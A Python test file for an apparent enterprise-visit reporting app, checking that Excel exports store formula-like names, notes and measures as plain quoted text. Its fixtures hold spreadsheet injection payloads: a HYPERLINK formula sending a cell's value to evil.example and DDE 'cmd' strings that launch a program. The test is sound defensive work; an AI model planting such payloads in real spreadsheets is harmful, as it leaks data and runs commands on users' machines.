"""No formulas from data: a name, note, problem or measure that looks like a formula is written as text."""

from __future__ import annotations

import zipfile
from datetime import date

import openpyxl

from xunzhen_app.services import experts, reports, visits
from xunzhen_app.services.dto import EnterpriseInput
from xunzhen_app.services.enterprises import create_enterprise
from xunzhen_app.services.reports.xlsx_style import FORMULA_STARTS

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
HOSTILE = {
    "name": NAME,
    "notes": "+cmd|' /C calc'!A0",
    "problem": "@SUM(1+1)*cmd|' /C calc'!A0",
    "measure": "-2+3+cmd|' /C calc'!A0",
    "summary": "\t=1+1",
}


def _store_with_hostile_texts(store):
    experts.save_profile(store, "测试专家", "测试单位")
    e = create_enterprise(store, EnterpriseInput(name=HOSTILE["name"], city="太原市", cultivation_type="领军型",
                                                 notes=HOSTILE["notes"]))
    v = visits.create_visit(store, visits.NewVisit(enterprise_id=e.id, start_date=date(2025, 5, 20),
                                                   team=(experts.profile(store).id,)))
    visits.add_problem(store, v.id, HOSTILE["problem"], item_code="1.1.1")
    visits.set_item_text(store, v.id, "1.1.1", "problem", HOSTILE["problem"])
    visits.add_plan_row(store, v.id, measure=HOSTILE["measure"], department="=A1")
    visits.set_visit_field(store, v.id, "summary", HOSTILE["summary"])
    return v


def _formula_like_cells(path):
    wb = openpyxl.load_workbook(path)
    found = []
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    found.append(cell)
    return found


def _no_formula_elements(path):
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        return all(b"<f>" not in z.read(n) and b"<f " not in z.read(n) for n in sheets)


def test_visit_and_summary_workbooks_keep_formula_like_texts_as_text(store, tmp_path):
    v = _store_with_hostile_texts(store)
    one = reports.write_workbook(store, reports.ExportSelection(visit_refs=(v.id,)), tmp_path / "明细.xlsx").path
    summary = reports.write_workbook(store, reports.ExportSelection(), tmp_path / "汇总.xlsx").path
    for path in (one, summary):
        cells = _formula_like_cells(path)
        values = {c.value for c in cells}
        assert NAME in values  # the enterprise name is on every sheet that names the enterprise
        assert all(c.data_type == "s" and c.quotePrefix for c in cells), [
            (c.coordinate, c.data_type, c.value) for c in cells if c.data_type != "s" or not c.quotePrefix]
        assert _no_formula_elements(path)
    assert {HOSTILE["measure"], HOSTILE["problem"], "=A1"} <= {c.value for c in _formula_like_cells(one)}
    assert HOSTILE["notes"] in {c.value for c in _formula_like_cells(summary)}


def test_ordinary_texts_get_no_quote_prefix(demo_store, tmp_path):
    summary = reports.write_workbook(demo_store, reports.ExportSelection(), tmp_path / "汇总.xlsx").path
    wb = openpyxl.load_workbook(summary)
    name_cells = [r[1] for r in wb["附件2"].iter_rows(min_row=3)]
    assert name_cells and not any(c.quotePrefix for c in name_cells)
